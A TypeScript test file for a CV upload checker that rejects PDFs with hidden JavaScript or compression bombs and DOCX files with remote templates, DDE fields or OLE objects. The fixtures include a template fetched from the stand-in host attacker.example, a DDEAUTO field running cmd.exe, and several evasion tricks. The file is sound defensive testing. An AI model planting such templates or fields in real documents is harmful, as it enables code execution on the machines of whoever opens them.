import { zlibSync } from 'fflate';
import { APPLICATION_MESSAGES } from '@joognoo/schemas';
import { describe, expect, it } from 'vitest';
import {
  ascii85,
  asciiHex,
  deflateBomb,
  docxBomb,
  docxBytes,
  docxWithEmbeddedOle,
  docxWithExternalOle,
  docxWithField,
  docxWithLinkAndPageField,
  docxWithTemplate,
  lzw,
  oleCompoundFile,
  pdfBytes,
  pdfWithObjectStream,
  pngUp,
  rawZip,
  runLength,
  zlibBomb,
} from '../../test/cv-files.ts';
import { inspectCv } from './cv.ts';
import { CV_INFLATE_LIMIT_BYTES } from './cv-limits.ts';

const ACTIVE = { ok: false, message: APPLICATION_MESSAGES.cvActiveContent };
const UNREADABLE = { ok: false, message: APPLICATION_MESSAGES.cvType };
const flate = (data: Buffer) => Buffer.from(zlibSync(data));
/** Raw DEFLATE of `megabytes` MB of spaces. */
const deflated = (megabytes: number) => deflateBomb(megabytes * 1024 * 1024);

/** The object stream PDF with `filter`; an indirect filter name is defined as object 9. */
function objectStreamPdf(filter: string, encode: (data: Buffer) => Buffer, object?: string): Buffer {
  const pdf = pdfWithObjectStream({ dict: `/Type /ObjStm /N 1 /First 4 ${filter}`, encode, object });
  return filter.includes('9 0 R') ? Buffer.concat([pdf, Buffer.from('9 0 obj /ASCIIHexDecode endobj\n', 'latin1')]) : pdf;
}

describe('PDF: object streams through every standard filter', () => {
  it.each([
    ['FlateDecode', '/Filter /FlateDecode', flate],
    ['ASCIIHexDecode', '/Filter /ASCIIHexDecode', asciiHex],
    ['ASCII85Decode', '/Filter /ASCII85Decode', ascii85],
    ['LZWDecode', '/Filter /LZWDecode', lzw],
    ['RunLengthDecode', '/Filter /RunLengthDecode', runLength],
    ['[/ASCIIHexDecode /FlateDecode]', '/Filter [/ASCIIHexDecode /FlateDecode]', (data: Buffer) => asciiHex(flate(data))],
    ['[/A85 /LZW /RL] (abbreviated)', '/Filter [/A85 /LZW /RL]', (data: Buffer) => ascii85(lzw(runLength(data)))],
    ['FlateDecode with the PNG Up predictor', '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >>', (data: Buffer) => flate(pngUp(data, 7))],
    ['a filter named through an indirect object', '/Filter 9 0 R', asciiHex],
  ])('finds JavaScript in an object stream encoded with %s', (_, filter, encode) => {
    expect(inspectCv(objectStreamPdf(filter, encode), 'cv.pdf')).toEqual(ACTIVE);
    // The same stream holding a plain object is a CV.
    expect(inspectCv(objectStreamPdf(filter, encode, '<< /Type /Font /Subtype /Type1 >>'), 'cv.pdf')).toEqual({ ok: true, kind: 'pdf' });
  });

  it.each([
    ['an extra key containing "obj" after /Type /ObjStm', '/Type /ObjStm /Nobj true /N 1 /First 4 /Filter /FlateDecode'],
    ['a dictionary padded past 2,000 bytes', `/Type /ObjStm /Pad (${'x'.repeat(2500)}) /N 1 /First 4 /Filter /FlateDecode`],
    ['a hex-escaped type (/Obj#53tm)', '/Type /Obj#53tm /N 1 /First 4 /Filter /Fl#61teDecode'],
    ['no /Type (readers go by /N and /First)', '/N 1 /First 4 /Filter /FlateDecode'],
    ['strings with parentheses and escapes before the filter', '/Type /ObjStm /T (a \\) (b) obj) /H <6f626a> /N 1 /First 4 /Filter /FlateDecode'],
  ])('finds JavaScript in a Flate object stream with %s', (_, dict) => {
    expect(inspectCv(pdfWithObjectStream({ dict }), 'cv.pdf')).toEqual(ACTIVE);
  });

  it('finds an escaped /J#61vaScript inside an object stream, and an object hidden inside another stream', () => {
    expect(inspectCv(pdfWithObjectStream({ object: '<< /S /J#61vaScript /J#53 (x) >>' }), 'cv.pdf')).toEqual(ACTIVE);
    const hidden = '9 0 obj << /S /JavaScript /JS (x) >> endobj';
    expect(inspectCv(pdfBytes({ extraObjects: `6 0 obj << /Length ${hidden.length} /Subtype /Image >>\nstream\n${hidden}\nendstream\nendobj` }), 'cv.pdf')).toEqual(ACTIVE);
  });

  it('refuses as unreadable an object stream it cannot decode: an image filter, an unknown one, an encrypted file', () => {
    expect(inspectCv(pdfWithObjectStream({ dict: '/Type /ObjStm /N 1 /First 4 /Filter /DCTDecode' }), 'cv.pdf')).toMatchObject(UNREADABLE);
    expect(inspectCv(pdfWithObjectStream({ dict: '/Type /ObjStm /N 1 /First 4 /Filter /BrotliDecode' }), 'cv.pdf')).toMatchObject(UNREADABLE);
    expect(inspectCv(pdfWithObjectStream({ dict: '/Type /ObjStm /N 1 /First 4 /Filter 99 0 R' }), 'cv.pdf')).toMatchObject(UNREADABLE);
    expect(inspectCv(pdfWithObjectStream({ trailerExtra: '/Encrypt 8 0 R ' }), 'cv.pdf')).toMatchObject(UNREADABLE);
  });

  it('accepts names in strings, comments and image data, and images with image filters', () => {
    const pdf = pdfBytes({
      catalogExtra: '/Lang (en) ',
      extraObjects: [
        '4 0 obj << /Title (How I use /JavaScript and /Launch \\(daily\\)) /Author <2f4a53> >> endobj',
        '% /JavaScript in a comment',
        '5 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length 12 >>\nstream\n/JS /Launch \nendstream\nendobj',
      ].join('\n'),
    });
    expect(inspectCv(pdf, 'cv.pdf')).toEqual({ ok: true, kind: 'pdf' });
  });

  it('stops an object stream that inflates past the per-part cap, and a file past the per-file cap', () => {
    const bomb = pdfWithObjectStream({ encode: () => zlibBomb(200 * 1024 * 1024) });
    expect(inspectCv(bomb, 'cv.pdf')).toMatchObject({ ...UNREADABLE, reason: 'limit: part' });
    // Three streams of 30 MB each: under the part cap, over the file's.
    const stream = zlibBomb(30 * 1024 * 1024);
    const objects = [6, 7, 8].map((n) => Buffer.concat([Buffer.from(`${n} 0 obj << /Type /ObjStm /N 0 /First 0 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`), stream, Buffer.from('\nendstream\nendobj\n')]));
    const pdf = Buffer.concat([pdfBytes(), ...objects]);
    expect(3 * 30 * 1024 * 1024).toBeGreaterThan(CV_INFLATE_LIMIT_BYTES);
    expect(inspectCv(pdf, 'cv.pdf')).toMatchObject({ ...UNREADABLE, reason: 'limit: bytes' });
  });
});

describe('DOCX', () => {
  it.each([
    ['a remote template (attachedTemplate, TargetMode="External")', () => docxWithTemplate('https://attacker.example/template.dotm')],
    ['a template on a network share', () => docxWithTemplate('file://attacker.example/share/t.dotm')],
    ['a DDEAUTO field split over runs', () => docxWithField(' DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')],
    ['a DDE field', () => docxWithField(' DDE "c:\\\\x" "y"')],
    ['a simple DDEAUTO field', () => docxBytes({ body: '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\x y"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>' })],
    ['an embedded OLE object', docxWithEmbeddedOle],
    ['an external oleObject relationship', docxWithExternalOle],
    ['an OLE compound file named as an image', () => docxBytes({ files: { 'word/media/image1.png': oleCompoundFile() } })],
    ['an OLE element with another prefix', () => docxBytes({ body: '<w:p><w:r><x:OLEObject xmlns:x="urn:schemas-microsoft-com:office:office" Type="Link"/></w:r></w:p>' })],
  ])('refuses %s as active content', (_, make) => {
    expect(inspectCv(make(), 'cv.docx')).toEqual(ACTIVE);
  });

  it('finds DDE behind a nested field (the QUOTE trick) and accepts ordinary fields, hyperlinks and a local template', () => {
    const nested = docxBytes({
      body:
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r>' +
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> c:\\x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    });
    expect(inspectCv(nested, 'cv.docx')).toEqual(ACTIVE);
    expect(inspectCv(docxWithField(' PAGE '), 'cv.docx')).toEqual({ ok: true, kind: 'docx' });
    expect(inspectCv(docxWithField(' HYPERLINK "https://example.com/" '), 'cv.docx')).toEqual({ ok: true, kind: 'docx' });
    expect(inspectCv(docxWithLinkAndPageField(), 'cv.docx')).toEqual({ ok: true, kind: 'docx' });
    expect(inspectCv(docxWithTemplate('file:///C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'), 'cv.docx')).toEqual({ ok: true, kind: 'docx' });
  });

  it('stops a part at its declared size: the 1.5 GB [Content_Types].xml declaring 1,000 bytes is unreadable at once', () => {
    const bomb = docxBomb();
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
    const started = performance.now();
    expect(inspectCv(bomb, 'cv.docx')).toMatchObject({ ...UNREADABLE, reason: 'limit: part' });
    expect(performance.now() - started).toBeLessThan(2_000); // the old check inflated all 1.5 GB: 13-16 s
  });

  it('refuses a part declared over the per-part cap, a file over the per-file cap, and a forged local header', () => {
    const big = (name: string, megabytes: number) => ({ name, data: deflated(megabytes), method: 8 as const, declaredSize: megabytes * 1024 * 1024 });
    const base = [
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>'), method: 0 as const, declaredSize: 8 },
      { name: 'word/document.xml', data: Buffer.from('<w:document/>'), method: 0 as const, declaredSize: 13 },
    ];
    expect(inspectCv(rawZip([...base, big('word/a.xml', 40)]), 'cv.docx')).toMatchObject({ ...UNREADABLE, reason: 'limit: part' });
    expect(inspectCv(rawZip([...base, big('word/a.xml', 30), big('word/b.xml', 30), big('word/c.xml', 30)]), 'cv.docx')).toMatchObject({ ...UNREADABLE, reason: 'limit: bytes' });
    expect(inspectCv(rawZip([...base, big('word/a.xml', 1)]), 'cv.docx')).toEqual({ ok: true, kind: 'docx' });
    const forged = rawZip([...base, { name: 'word/vbaProject.bin', data: Buffer.alloc(8), method: 0, declaredSize: 8 }]);
    forged.write('word/vbaProjecX.bin', forged.indexOf('word/vbaProject.bin'), 'latin1'); // the local header only
    expect(inspectCv(forged, 'cv.docx')).toMatchObject(UNREADABLE);
  });
});
